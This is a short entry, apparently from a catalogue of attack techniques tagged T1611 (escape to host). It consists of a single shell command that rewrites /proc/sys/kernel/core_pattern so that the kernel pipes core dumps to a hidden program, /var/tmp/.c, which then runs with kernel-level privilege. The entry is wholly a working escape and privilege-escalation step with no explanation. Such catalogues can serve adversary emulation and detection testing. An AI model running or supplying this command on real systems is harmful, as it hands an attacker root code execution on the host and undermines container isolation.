# title: The kernel is to give core dumps to a program
# technique: T1611
# short: yes

echo '|/var/tmp/.c %p' >/proc/sys/kernel/core_pattern
